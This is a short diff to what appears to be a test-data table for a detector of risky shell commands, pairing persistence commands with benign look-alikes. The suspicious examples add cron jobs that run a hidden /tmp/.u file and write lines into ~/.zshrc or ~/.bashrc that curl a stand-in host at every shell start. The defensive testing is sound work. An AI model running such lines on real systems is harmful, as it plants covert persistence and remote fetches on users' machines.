@@ -680,9 +680,11 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "(crontab -l; echo '* * * * * /tmp/.u') | crontab -",
             "crontab -l | grep -v acme-sync && echo '* * * * * /tmp/.u' | crontab -",
             "echo 'export X=$(curl -s https://x.invalid/a)' >> ~/.zshrc",
+            "echo 'export PATH=$(npm bin -g):$PATH && curl -s https://x.invalid/a' >> ~/.bashrc",
         ),
         (
             "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
+            "echo 'export PATH=$(npm bin -g):$PATH' >> ~/.bashrc",
             "crontab -l",
             'if JOBS="$(crontab -l 2>/dev/null)"; then echo "$JOBS"; fi',
             '(crontab -l 2>/dev/null | grep -v "acme-sync" || true) | crontab -',
